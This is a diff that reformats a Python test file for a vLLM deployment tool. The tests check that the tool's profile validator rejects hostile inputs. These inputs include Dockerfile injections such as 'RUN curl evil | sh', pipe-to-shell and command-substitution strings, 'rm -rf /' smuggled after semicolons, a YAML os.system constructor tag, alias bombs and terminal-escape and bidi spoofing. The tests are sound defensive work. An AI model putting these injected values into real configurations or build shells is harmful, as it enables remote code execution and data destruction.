@@ -63,48 +63,129 @@ BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
 # (id, profile text, substrings the error must contain). Every one exits 2.
 REFUSED: list[tuple[str, str, list[str]]] = [
     # --- injection into the Dockerfile and the build shell
-    ("base-newline-run", profile(**{"image.base": "vllm/vllm-openai:v0.32.0\nRUN curl evil | sh"}), ["image.base: expected an image reference"]),
-    ("base-as-stage", profile(**{"image.base": "vllm/vllm-openai:v0.32.0 AS x"}), ["image.base: expected an image reference"]),
+    (
+        "base-newline-run",
+        profile(**{"image.base": "vllm/vllm-openai:v0.32.0\nRUN curl evil | sh"}),
+        ["image.base: expected an image reference"],
+    ),
+    (
+        "base-as-stage",
+        profile(**{"image.base": "vllm/vllm-openai:v0.32.0 AS x"}),
+        ["image.base: expected an image reference"],
+    ),
     ("base-command-substitution", profile(**{"image.base": "$(id):1"}), ["image.base: expected an image reference"]),
-    ("base-platform-option", profile(**{"image.base": "--platform=linux/amd64 x:1"}), ["image.base: expected an image reference"]),
-    ("base-latest", profile(**{"image.base": "vllm/vllm-openai:latest"}), ["image.base: expected a pinned image reference"]),
-    ("pip-command-substitution", profile(**{"image.extra-pip": ["$(curl evil)"]}), ["image.extra-pip.0: expected a PEP 508 requirement"]),
+    (
+        "base-platform-option",
+        profile(**{"image.base": "--platform=linux/amd64 x:1"}),
+        ["image.base: expected an image reference"],
+    ),
+    (
+        "base-latest",
+        profile(**{"image.base": "vllm/vllm-openai:latest"}),
+        ["image.base: expected a pinned image reference"],
+    ),
+    (
+        "pip-command-substitution",
+        profile(**{"image.extra-pip": ["$(curl evil)"]}),
+        ["image.extra-pip.0: expected a PEP 508 requirement"],
+    ),
     ("pip-backticks", profile(**{"image.extra-pip": ["`id`"]}), ["image.extra-pip.0: expected a PEP 508 requirement"]),
-    ("pip-index-url-option", profile(**{"image.extra-pip": ["--index-url https://evil.example/simple"]}), ["expected a PEP 508"]),
+    (
+        "pip-index-url-option",
+        profile(**{"image.extra-pip": ["--index-url https://evil.example/simple"]}),
+        ["expected a PEP 508"],
+    ),
     ("pip-requirements-file", profile(**{"image.extra-pip": ["-r /etc/passwd"]}), ["expected a PEP 508"]),
     ("pip-semicolon", profile(**{"image.extra-pip": ["timm==1.0; rm -rf /"]}), ["expected a PEP 508"]),
     ("pip-newline", profile(**{"image.extra-pip": ["timm==1.0\nRUN evil"]}), ["expected a PEP 508"]),
     ("pip-http-url", profile(**{"image.extra-pip": ["pkg @ http://insecure.example/pkg.whl"]}), ["must use https://"]),
-    ("tiny-source-substitution", profile(**{**CPU_TINY, "model.source": "/models/x$(id)"}), ["model.source: storage 'tiny' needs an absolute path"]),
-    ("host-source-space", profile(**{"model.source": "/models/a b"}), ["model.source: storage 'host' needs an absolute path"]),
+    (
+        "tiny-source-substitution",
+        profile(**{**CPU_TINY, "model.source": "/models/x$(id)"}),
+        ["model.source: storage 'tiny' needs an absolute path"],
+    ),
+    (
+        "host-source-space",
+        profile(**{"model.source": "/models/a b"}),
+        ["model.source: storage 'host' needs an absolute path"],
+    ),
     ("host-source-newline", profile(**{"model.source": "/models/x\nRUN evil"}), ["model.source: storage 'host' needs"]),
-    ("host-source-relative", profile(**{"model.source": "models/x", "model.storage": "host"}), ["needs an absolute path"]),
-    ("ca-bundle-semicolon", profile(**{**CPU_TINY, "image.ca-bundle": "/etc/ssl/x;rm -rf /"}), ["image.ca-bundle: expected an absolute path"]),
-    ("registry-with-command", profile(**{"image.registry": "evil.example/x; rm"}), ["image.registry: expected a registry host"]),
-    ("registry-uppercase", profile(**{"image.registry": "Registry.Example.com/ml"}), ["image.registry: expected a registry host"]),
+    (
+        "host-source-relative",
+        profile(**{"model.source": "models/x", "model.storage": "host"}),
+        ["needs an absolute path"],
+    ),
+    (
+        "ca-bundle-semicolon",
+        profile(**{**CPU_TINY, "image.ca-bundle": "/etc/ssl/x;rm -rf /"}),
+        ["image.ca-bundle: expected an absolute path"],
+    ),
+    (
+        "registry-with-command",
+        profile(**{"image.registry": "evil.example/x; rm"}),
+        ["image.registry: expected a registry host"],
+    ),
+    (
+        "registry-uppercase",
+        profile(**{"image.registry": "Registry.Example.com/ml"}),
+        ["image.registry: expected a registry host"],
+    ),
     ("name-path", profile(name="../etc"), ["name: expected lowercase letters"]),
     ("name-trailing-newline", profile(name="demo\n"), ["name: expected lowercase letters"]),
     ("description-newline", profile(description="one\ntwo"), ["description: expected a string of letters"]),
-    ("prompt-control-character", profile(**{"smoke.prompt": "say \x1b[2J"}), ["smoke.prompt: expected a string of letters"]),
+    (
+        "prompt-control-character",
+        profile(**{"smoke.prompt": "say \x1b[2J"}),
+        ["smoke.prompt: expected a string of letters"],
+    ),
     ("image-url-javascript", profile(**{"smoke.image-url": "javascript:alert(1)"}), ["smoke.image-url"]),
     ("image-url-space", profile(**{"smoke.image-url": "http://a.example/x y.jpg"}), ["smoke.image-url"]),
     ("served-name-expansion", profile(**{"model.served-name": "$(VLLM_API_KEY)"}), ["model.served-name"]),
-    ("revision-semicolon", profile(**{"model.source": "org/model", "model.revision": "main; rm -rf /", "kubernetes": None}),
-     ["model.revision"]),
+    (
+        "revision-semicolon",
+        profile(**{"model.source": "org/model", "model.revision": "main; rm -rf /", "kubernetes": None}),
+        ["model.revision"],
+    ),
     ("storage-class-space", profile(**{"kubernetes.storage-class": "Fast SSD"}), ["kubernetes.storage-class"]),
-    ("runtime-class-newline", profile(**{"kubernetes.runtime-class-name": "nvidia\n"}), ["kubernetes.runtime-class-name"]),
-    ("node-selector-value-space", profile(**{"kubernetes.node-selector": {"a": "b c"}}), ["expected a Kubernetes label value"]),
-    ("node-selector-key-expansion", profile(**{"kubernetes.node-selector": {"$(X)": "b"}}), ["expected a Kubernetes label key"]),
-    ("hub-id-trailing-newline", profile(**{"model.source": "Qwen/Qwen2.5-VL-7B-Instruct\n", "kubernetes": None}),
-     ["model.source: expected a Hugging Face id"]),
-    ("hub-id-with-url", profile(**{"model.source": "https://evil.example/x", "model.storage": "hub", "kubernetes": None}),
-     ["model.source: expected a Hugging Face id"]),
+    (
+        "runtime-class-newline",
+        profile(**{"kubernetes.runtime-class-name": "nvidia\n"}),
+        ["kubernetes.runtime-class-name"],
+    ),
+    (
+        "node-selector-value-space",
+        profile(**{"kubernetes.node-selector": {"a": "b c"}}),
+        ["expected a Kubernetes label value"],
+    ),
+    (
+        "node-selector-key-expansion",
+        profile(**{"kubernetes.node-selector": {"$(X)": "b"}}),
+        ["expected a Kubernetes label key"],
+    ),
+    (
+        "hub-id-trailing-newline",
+        profile(**{"model.source": "Qwen/Qwen2.5-VL-7B-Instruct\n", "kubernetes": None}),
+        ["model.source: expected a Hugging Face id"],
+    ),
+    (
+        "hub-id-with-url",
+        profile(**{"model.source": "https://evil.example/x", "model.storage": "hub", "kubernetes": None}),
+        ["model.source: expected a Hugging Face id"],
+    ),
     # --- the flag guard: every spelling vLLM's parser would accept
-    ("flag-api-key-prefix", args("--api-ke", CANARY), ["'--api-ke' (read by vLLM as --api-key) duplicates api-key.env"]),
+    (
+        "flag-api-key-prefix",
+        args("--api-ke", CANARY),
+        ["'--api-ke' (read by vLLM as --api-key) duplicates api-key.env"],
+    ),
     ("flag-api-key-underscore", args(f"--api_key={CANARY}"), ["read by vLLM as --api-key"]),
     ("flag-api-key-append", args("--api-key+", CANARY), ["duplicates api-key.env"]),
     ("flag-api-ambiguous", args("--api", CANARY), ["'--api' is ambiguous in vLLM 0.32"]),
-    ("flag-config", args("--config", "/tmp/more-flags.yaml"), ["'--config' is refused: it reads more flags from a file"]),
+    (
+        "flag-config",
+        args("--config", "/tmp/more-flags.yaml"),
+        ["'--config' is refused: it reads more flags from a file"],
+    ),
     ("flag-config-equals", args("--config=/tmp/x.yaml"), ["'--config' is refused"]),
     ("flag-config-prefix", args("--conf", "x.yaml"), ["is ambiguous"]),
     ("flag-dotted-modelled", args("--limit-mm-per-prompt.image", "5"), ["duplicates engine.limit-mm-per-prompt"]),
@@ -114,12 +195,20 @@ REFUSED: list[tuple[str, str, list[str]]] = [
     ("flag-host", args("--host", "0.0.0.0"), ["duplicates server.bind-address"]),
     ("flag-short-tp", args("-tp", "2"), ["item 0: '-tp' duplicates engine.tensor-parallel-size"]),
     ("flag-tp-underscore", args("--tensor_parallel_size=2"), ["duplicates engine.tensor-parallel-size"]),
-    ("flag-local-media", args("--allowed-local-media-path", "/"), ["is refused: it lets clients read files inside the container"]),
+    (
+        "flag-local-media",
+        args("--allowed-local-media-path", "/"),
+        ["is refused: it lets clients read files inside the container"],
+    ),
     ("flag-uds", args("--uds", "/tmp/vllm.sock"), ["is refused: it serves on a socket"]),
     ("flag-model", args("--model", "other/model"), ["duplicates model.source"]),
     ("flag-served-name", args("--served-model-name", "x"), ["duplicates model.served-name"]),
     ("flag-ambiguous-prefix", args("--max-num", "8"), ["item 0: '--max-num' is ambiguous in vLLM 0.32"]),
-    ("flag-typo", args("--enable-prefx-caching"), ["is not a `vllm serve` flag (did you mean '--enable-prefix-caching'?)"]),
+    (
+        "flag-typo",
+        args("--enable-prefx-caching"),
+        ["is not a `vllm serve` flag (did you mean '--enable-prefix-caching'?)"],
+    ),
     ("flag-no-form", args("--no-enforce-eager"), ["duplicates engine.enforce-eager"]),
     ("flag-gmu-prefix", args("--gpu-memory-util", "1"), ["read by vLLM as --gpu-memory-utilization"]),
     ("flag-trust-prefix", args("--trust-remote"), ["duplicates engine.trust-remote-code"]),
@@ -130,15 +219,22 @@ REFUSED: list[tuple[str, str, list[str]]] = [
     # --- secrets in the wrong place are never repeated
     ("dotenv-as-profile", f"VLLM_API_KEY={CANARY}\n", ["expected a mapping of keys at the top level, got a string of"]),
     ("inline-key", profile(**{"api-key": CANARY}), ["api-key: expected a reference like {env: VLLM_API_KEY}"]),
-    ("key-as-env-name", profile(**{"api-key.env": CANARY}), ["api-key.env: expected an environment variable name",
-                                                            "not shown: it may be a secret"]),
+    (
+        "key-as-env-name",
+        profile(**{"api-key.env": CANARY}),
+        ["api-key.env: expected an environment variable name", "not shown: it may be a secret"],
+    ),
     ("hf-token-as-env-name", profile(**{"api-key.env": "hf_abcdefghijklmnop"}), ["not shown: it may be a secret"]),
     ("key-as-name", profile(name=CANARY), ["name: expected at most 40 characters, got 42"]),
     ("key-like-name", profile(name="sk-Canary"), ["name: expected lowercase letters", "not shown"]),
     ("key-as-unknown-key", profile(**{CANARY: 1}), ["(a key that may be a secret): unknown key"]),
     ("password-key", profile(**{"engine.password": "hunter2"}), ["unknown key"]),
     ("key-as-dtype", profile(**{"engine.dtype": CANARY}), ["engine.dtype: expected one of", "not shown"]),
-    ("key-as-bind-address", profile(**{"server.bind-address": CANARY}), ["server.bind-address: expected an IP address"]),
+    (
+        "key-as-bind-address",
+        profile(**{"server.bind-address": CANARY}),
+        ["server.bind-address: expected an IP address"],
+    ),
     # --- values with security meaning
     ("key-from-path", profile(**{"api-key.env": "PATH"}), ["PATH is a variable the container or vLLM reads"]),
     ("key-from-ld-preload", profile(**{"api-key.env": "LD_PRELOAD"}), ["LD_PRELOAD is a variable"]),
@@ -151,16 +247,32 @@ REFUSED: list[tuple[str, str, list[str]]] = [
     ("bind-trailing-space", profile(**{"server.bind-address": "0.0.0.0 "}), ["expected an IP address"]),
     ("bind-out-of-range", profile(**{"server.bind-address": "999.1.1.1"}), ["expected an IP address"]),
     ("bind-with-port", profile(**{"server.bind-address": "127.0.0.1:80"}), ["expected an IP address"]),
-    ("policy-from-empty", profile(**{"kubernetes.network-policy-from": {}}), ["kubernetes.network-policy-from: expected at least 1 item"]),
+    (
+        "policy-from-empty",
+        profile(**{"kubernetes.network-policy-from": {}}),
+        ["kubernetes.network-policy-from: expected at least 1 item"],
+    ),
     ("media-domain-url", profile(**{"media.allowed-domains": ["http://images.example"]}), ["expected a host name"]),
-    ("media-redirects-with-allowlist", profile(**{"media.allowed-domains": ["images.example"], "media.allow-redirects": True}),
-     ["media.allow-redirects: cannot be true with allowed-domains"]),
-    ("blocked-networks-without-policy", profile(**{"media.blocked-networks": ["10.0.0.0/8"]}),
-     ["set kubernetes.egress-policy: true"]),
-    ("blocked-network-host-bits", profile(**{"media.blocked-networks": ["10.0.0.1/8"], "kubernetes.egress-policy": True}),
-     ["media.blocked-networks: expected a network like 10.0.0.0/8 (host bits zero)"]),
-    ("blocked-network-garbage", profile(**{"media.blocked-networks": ["everything"], "kubernetes.egress-policy": True}),
-     ["expected a network like"]),
+    (
+        "media-redirects-with-allowlist",
+        profile(**{"media.allowed-domains": ["images.example"], "media.allow-redirects": True}),
+        ["media.allow-redirects: cannot be true with allowed-domains"],
+    ),
+    (
+        "blocked-networks-without-policy",
+        profile(**{"media.blocked-networks": ["10.0.0.0/8"]}),
+        ["set kubernetes.egress-policy: true"],
+    ),
+    (
+        "blocked-network-host-bits",
+        profile(**{"media.blocked-networks": ["10.0.0.1/8"], "kubernetes.egress-policy": True}),
+        ["media.blocked-networks: expected a network like 10.0.0.0/8 (host bits zero)"],
+    ),
+    (
+        "blocked-network-garbage",
+        profile(**{"media.blocked-networks": ["everything"], "kubernetes.egress-policy": True}),
+        ["expected a network like"],
+    ),
     ("utilization-1-on-cuda", profile(**{"engine.gpu-memory-utilization": 1}), ["at most 0.95 on cuda"]),
     # --- types and bounds: the schema and the validator agree
     ("port-yes", profile(**{"server.port": True}), ["server.port: expected an integer, got True (bool)"]),
@@ -169,35 +281,73 @@ REFUSED: list[tuple[str, str, list[str]]] = [
     ("replicas-huge", profile(replicas=10**30), ["replicas: expected a number of at most 64"]),
     ("utilization-nan", profile(**{"engine.gpu-memory-utilization": float("nan")}), ["engine.gpu-memory-utilization"]),
     ("utilization-inf", profile(**{"engine.gpu-memory-utilization": float("inf")}), ["engine.gpu-memory-utilization"]),
-    ("trust-remote-code-string", profile(**{"engine.trust-remote-code": "true"}), ["expected true or false, got 'true' (str)"]),
+    (
+        "trust-remote-code-string",
+        profile(**{"engine.trust-remote-code": "true"}),
+        ["expected true or false, got 'true' (str)"],
+    ),
     ("trust-remote-code-int", profile(**{"engine.trust-remote-code": 1}), ["expected true or false, got 1 (int)"]),
-    ("stop-id-negative", profile(**{"smoke.stop-token-ids": [-1]}), ["smoke.stop-token-ids.0: expected a number of at least 0"]),
+    (
+        "stop-id-negative",
+        profile(**{"smoke.stop-token-ids": [-1]}),
+        ["smoke.stop-token-ids.0: expected a number of at least 0"],
+    ),
     ("tp-huge", profile(**{"engine.tensor-parallel-size": 10**6, "resources.gpus": 10**6}), ["at most 64"]),
     ("mm-limit-huge", profile(**{"engine.limit-mm-per-prompt": {"image": 10**9}}), ["at most 1000"]),
     ("memory-zero", profile(**{"resources.memory-gib": 0}), ["resources.memory-gib: expected a number of at least 1"]),
-    ("dtype-null", profile(**{"engine.dtype": None}).replace("engine:\n", "engine:\n  dtype: null\n"),
-     ["engine.dtype: expected one of"]),
-    ("engine-list", profile().replace("engine:\n", "engine: []\nx_engine:\n"), ["engine: expected a mapping, got a list"]),
+    (
+        "dtype-null",
+        profile(**{"engine.dtype": None}).replace("engine:\n", "engine:\n  dtype: null\n"),
+        ["engine.dtype: expected one of"],
+    ),
+    (
+        "engine-list",
+        profile().replace("engine:\n", "engine: []\nx_engine:\n"),
+        ["engine: expected a mapping, got a list"],
+    ),
     ("kubernetes-string", profile(kubernetes="x"), ["kubernetes: expected a mapping"]),
-    ("extra-args-not-strings", profile(**{"engine.extra-args": [1, True]}), ["engine.extra-args.0: expected a string, got 1 (int)"]),
+    (
+        "extra-args-not-strings",
+        profile(**{"engine.extra-args": [1, True]}),
+        ["engine.extra-args.0: expected a string, got 1 (int)"],
+    ),
     ("big-yaml-int", profile().replace("max-model-len: 2048", "max-model-len: " + "9" * 400), ["engine.max-model-len"]),
-    ("nan-int", profile().replace("max-model-len: 2048", "max-model-len: .nan"), ["expected an integer, got nan (float)"]),
+    (
+        "nan-int",
+        profile().replace("max-model-len: 2048", "max-model-len: .nan"),
+        ["expected an integer, got nan (float)"],
+    ),
     # --- YAML features that crashed or exploded
     ("alias-bomb", BOMB, ["expands to more than 20000 values"]),
     ("recursive-alias", "a: &a [*a]\n", ["an alias refers to itself"]),
     ("list-as-key", "? [a, b]\n: 1\n", ["keys must be plain names"]),
     ("mapping-as-key", "{a: 1}: x\n", ["keys must be plain names"]),
     ("merge-key", "base: &b {dtype: auto}\nengine:\n  <<: *b\n", ["keys must be plain names"]),
-    ("date-label", profile().replace("vllm-deploy/model: demo", "vllm-deploy/model: 2024-01-01"),
-     ["kubernetes.node-selector.vllm-deploy/model: expected a string, got a date value"]),
-    ("binary-toleration", profile().replace("kubernetes:\n", "kubernetes:\n  tolerations: [{key: !!binary aGVsbG8=}]\n"),
-     ["kubernetes.tolerations.0.key: expected a string, got binary data"]),
-    ("toleration-list-key", profile(**{"kubernetes.tolerations": [{"key": ["a", "b"]}]}),
-     ["kubernetes.tolerations.0.key: expected a string, got a list"]),
-    ("toleration-unknown-field", profile(**{"kubernetes.tolerations": [{"key": "a", "efect": "NoSchedule"}]}),
-     ["kubernetes.tolerations.0.efect: unknown key"]),
-    ("date-in-affinity", profile().replace("kubernetes:\n", "kubernetes:\n  node-affinity: {when: [2024-01-01]}\n"),
-     ["kubernetes.node-affinity.when.0: expected a string, got a date value"]),
+    (
+        "date-label",
+        profile().replace("vllm-deploy/model: demo", "vllm-deploy/model: 2024-01-01"),
+        ["kubernetes.node-selector.vllm-deploy/model: expected a string, got a date value"],
+    ),
+    (
+        "binary-toleration",
+        profile().replace("kubernetes:\n", "kubernetes:\n  tolerations: [{key: !!binary aGVsbG8=}]\n"),
+        ["kubernetes.tolerations.0.key: expected a string, got binary data"],
+    ),
+    (
+        "toleration-list-key",
+        profile(**{"kubernetes.tolerations": [{"key": ["a", "b"]}]}),
+        ["kubernetes.tolerations.0.key: expected a string, got a list"],
+    ),
+    (
+        "toleration-unknown-field",
+        profile(**{"kubernetes.tolerations": [{"key": "a", "efect": "NoSchedule"}]}),
+        ["kubernetes.tolerations.0.efect: unknown key"],
+    ),
+    (
+        "date-in-affinity",
+        profile().replace("kubernetes:\n", "kubernetes:\n  node-affinity: {when: [2024-01-01]}\n"),
+        ["kubernetes.node-affinity.when.0: expected a string, got a date value"],
+    ),
     ("deep-nesting", "a: " + "[" * 60 + "]" * 60 + "\n", ["nested deeper than 40 levels"]),
     ("very-deep-nesting", "a: " + "[" * 5000 + "]" * 5000 + "\n", ["nested deeper than 40 levels"]),
     ("python-tag", "name: !!python/object/apply:os.system [id]\n", ["could not determine a constructor"]),
@@ -205,24 +355,52 @@ REFUSED: list[tuple[str, str, list[str]]] = [
     ("int-key", "1: x\n", ["p.yaml:1: 1: keys should be strings, got 1 (int)"]),
     ("tab-indent", "name: demo\nmodel:\n\tsource: /x\n", ["YAML syntax error"]),
     ("nul-byte", "name: de\x00mo\n", ["YAML"]),
-    ("impossible-date", profile().replace("vllm-deploy/model: demo", "vllm-deploy/model: 2024-02-31"), ["a value cannot be read"]),
+    (
+        "impossible-date",
+        profile().replace("vllm-deploy/model: demo", "vllm-deploy/model: 2024-02-31"),
+        ["a value cannot be read"],
+    ),
     # --- crashes measured as tracebacks, and text that reached the terminal raw (#17)
-    ("hex-int-past-str-limit", profile().replace("max-model-len: 2048", "max-model-len: 0x" + "f" * 5000),
-     ["p.yaml:6: engine.max-model-len: integer too large: 5002 characters (a profile value has at most 1000)"]),
-    ("binary-int-past-str-limit", profile().replace("max-model-len: 2048", "max-model-len: 0b" + "1" * 20000),
-     ["p.yaml:6: engine.max-model-len: integer too large: 20002 characters (a profile value has at most 1000)"]),
-    ("decimal-int-past-str-limit", profile(**{"smoke.stop-token-ids": [7]}).replace("- 7", "- " + "9" * 5000),
-     ["smoke.stop-token-ids.0: integer too large: 5000 characters (a profile value has at most 1000)"]),
-    ("mm-kwargs-string-qwen", profile(**{"model.architecture": "Qwen2_5_VLForConditionalGeneration",
-                                         "engine.mm-processor-kwargs": {"max_pixels": "big"}}),
-     ["p.yaml:9: engine.mm-processor-kwargs.max_pixels: expected an integer\n"]),
-    ("mm-kwargs-string-minicpm", profile(**{"model.architecture": "MiniCPMV",
-                                            "engine.mm-processor-kwargs": {"max_slice_nums": "9"}}),
-     ["p.yaml:9: engine.mm-processor-kwargs.max_slice_nums: expected an integer\n"]),
-    ("unknown-key-escape", profile() + '"\\e[2J\\e]0;owned\\a": 1\n',
-     ["p.yaml:14: \\x1b[2J\\x1b]0;owned\\x07: unknown key; expected one of: api-key"]),
-    ("unknown-key-bidi", profile() + "evil\u202egnp.exe: 1\nx\u2066y: 2\n",
-     ["p.yaml:14: evil\\u202egnp.exe: unknown key", "p.yaml:15: x\\u2066y: unknown key"]),
+    (
+        "hex-int-past-str-limit",
+        profile().replace("max-model-len: 2048", "max-model-len: 0x" + "f" * 5000),
+        ["p.yaml:6: engine.max-model-len: integer too large: 5002 characters (a profile value has at most 1000)"],
+    ),
+    (
+        "binary-int-past-str-limit",
+        profile().replace("max-model-len: 2048", "max-model-len: 0b" + "1" * 20000),
+        ["p.yaml:6: engine.max-model-len: integer too large: 20002 characters (a profile value has at most 1000)"],
+    ),
+    (
+        "decimal-int-past-str-limit",
+        profile(**{"smoke.stop-token-ids": [7]}).replace("- 7", "- " + "9" * 5000),
+        ["smoke.stop-token-ids.0: integer too large: 5000 characters (a profile value has at most 1000)"],
+    ),
+    (
+        "mm-kwargs-string-qwen",
+        profile(
+            **{
+                "model.architecture": "Qwen2_5_VLForConditionalGeneration",
+                "engine.mm-processor-kwargs": {"max_pixels": "big"},
+            }
+        ),
+        ["p.yaml:9: engine.mm-processor-kwargs.max_pixels: expected an integer\n"],
+    ),
+    (
+        "mm-kwargs-string-minicpm",
+        profile(**{"model.architecture": "MiniCPMV", "engine.mm-processor-kwargs": {"max_slice_nums": "9"}}),
+        ["p.yaml:9: engine.mm-processor-kwargs.max_slice_nums: expected an integer\n"],
+    ),
+    (
+        "unknown-key-escape",
+        profile() + '"\\e[2J\\e]0;owned\\a": 1\n',
+        ["p.yaml:14: \\x1b[2J\\x1b]0;owned\\x07: unknown key; expected one of: api-key"],
+    ),
+    (
+        "unknown-key-bidi",
+        profile() + "evil\u202egnp.exe: 1\nx\u2066y: 2\n",
+        ["p.yaml:14: evil\\u202egnp.exe: unknown key", "p.yaml:15: x\\u2066y: unknown key"],
+    ),
     ("unknown-nested-key-escape", profile(**{"engine.\x9b\u2028x": 1}), ["engine.\\x9b\\u2028x: unknown key"]),
 ]
 
@@ -292,14 +470,25 @@ SAFE: list[tuple[str, str, Check]] = [
     ("value-compose-interpolation", args("--response-role", "${VLLM_API_KEY:?x}"), expansion_safe),
     ("value-negative-number", args("--seed", "-1"), expansion_safe),
     ("value-json-with-dollar-paren", args("--override-generation-config", '{"a": "$(", "b": ")$"}'), expansion_safe),
-    ("pip-url-requirement", profile(**{"image.extra-pip": ["pkg @ https://example.com/pkg-1.0-py3-none-any.whl"]}), pip_line_safe),
-    ("pip-markers-and-extras", profile(**{"image.extra-pip": ["timm[extra]>=1,<2; python_version > '3.8'"]}), pip_line_safe),
+    (
+        "pip-url-requirement",
+        profile(**{"image.extra-pip": ["pkg @ https://example.com/pkg-1.0-py3-none-any.whl"]}),
+        pip_line_safe,
+    ),
+    (
+        "pip-markers-and-extras",
+        profile(**{"image.extra-pip": ["timm[extra]>=1,<2; python_version > '3.8'"]}),
+        pip_line_safe,
+    ),
     ("pip-several", profile(**{"image.extra-pip": ["a==1", "b>=2", "c[x]"]}), pip_line_safe),
     ("allowlist-turns-redirects-off", profile(**{"media.allowed-domains": ["images.example"]}), redirects_off),
     ("ipv6-loopback", profile(**{"server.bind-address": "::1"}), ipv6_published),
     ("base-by-digest", profile(**{"image.base": "registry.example.com/vllm@sha256:" + "a" * 64}), digest_base),
-    ("egress-policy", profile(**{"kubernetes.egress-policy": True, "media.blocked-networks": ["10.0.0.0/8"]}),
-     egress_blocks_metadata),
+    (
+        "egress-policy",
+        profile(**{"kubernetes.egress-policy": True, "media.blocked-networks": ["10.0.0.0/8"]}),
+        egress_blocks_metadata,
+    ),
     ("valid-extra-flag", args("--enable-prefix-caching", "-O3"), expansion_safe),
     ("value-bidi-and-line-separator", args("--response-role", "a\u2028b\u202ec\u2066d\x7f"), nothing_raw),
 ]
@@ -344,8 +533,10 @@ def test_hostile_but_valid_profile_renders_safely(cli, tmp_path, case_id, text, 
 def test_a_fifo_is_refused_without_blocking(cli, tmp_path):
     os.mkfifo(tmp_path / "p.yaml")
     result = cli("validate", "p.yaml", cwd=tmp_path)
-    assert (result.code, result.err) == (2, "error: p.yaml: is not a regular file (a device, FIFO or socket); "
-                                            "expected a profile YAML file\n")
+    assert (result.code, result.err) == (
+        2,
+        "error: p.yaml: is not a regular file (a device, FIFO or socket); expected a profile YAML file\n",
+    )
 
 
 def test_dev_zero_is_refused(cli):
@@ -371,12 +562,20 @@ def bounded(command: list[str], cwd: Path) -> subprocess.CompletedProcess:
     def limit() -> None:
         resource.setrlimit(resource.RLIMIT_AS, (500 << 20, 500 << 20))
 
-    return subprocess.run([sys.executable, "-m", "deploy", *command], cwd=cwd, capture_output=True, text=True,
-                          timeout=10, preexec_fn=limit, env={**os.environ, "PYTHONPATH": str(REPO)})
+    return subprocess.run(
+        [sys.executable, "-m", "deploy", *command],
+        cwd=cwd,
+        capture_output=True,
+        text=True,
+        timeout=10,
+        preexec_fn=limit,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+    )
 
 
-@pytest.mark.parametrize("case_id", ["alias-bomb", "recursive-alias", "very-deep-nesting", "big-yaml-int",
-                                     "hex-int-past-str-limit"])
+@pytest.mark.parametrize(
+    "case_id", ["alias-bomb", "recursive-alias", "very-deep-nesting", "big-yaml-int", "hex-int-past-str-limit"]
+)
 def test_resource_cases_stay_within_500_mb_and_10_s(tmp_path, case_id):
     text = next(t for i, t, _ in REFUSED if i == case_id)
     (tmp_path / "p.yaml").write_text(text, encoding="utf-8")
@@ -468,11 +667,26 @@ def test_one_bad_profile_among_several_writes_nothing(cli, tmp_path):
 # The published schema and the validator agree
 
 
-TYPE_AND_BOUND_CASES = ["port-yes", "port-quoted", "max-model-len-quoted", "replicas-huge", "utilization-inf",
-                        "trust-remote-code-string", "trust-remote-code-int", "stop-id-negative", "mm-limit-huge",
-                        "memory-zero", "kubernetes-string", "extra-args-not-strings", "name-trailing-newline",
-                        "registry-uppercase", "policy-from-empty",
-                        "node-selector-value-space", "base-newline-run", "toleration-unknown-field"]
+TYPE_AND_BOUND_CASES = [
+    "port-yes",
+    "port-quoted",
+    "max-model-len-quoted",
+    "replicas-huge",
+    "utilization-inf",
+    "trust-remote-code-string",
+    "trust-remote-code-int",
+    "stop-id-negative",
+    "mm-limit-huge",
+    "memory-zero",
+    "kubernetes-string",
+    "extra-args-not-strings",
+    "name-trailing-newline",
+    "registry-uppercase",
+    "policy-from-empty",
+    "node-selector-value-space",
+    "base-newline-run",
+    "toleration-unknown-field",
+]
 
 
 def schema_validator():
